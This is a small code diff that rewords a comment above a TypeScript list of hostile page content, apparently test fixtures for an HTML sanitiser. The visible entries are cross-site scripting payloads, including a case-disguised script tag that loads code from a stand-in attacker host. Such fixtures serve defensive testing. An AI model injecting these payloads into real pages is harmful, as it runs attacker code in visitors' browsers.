@@ -1,4 +1,4 @@
-/** What people try to smuggle into a page: mark-up that would run, in as many disguises as we know. */
+/** Attempts to smuggle things into a page: mark-up that would run, in as many disguises as we know. */
 export const HOSTILE_CONTENT: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
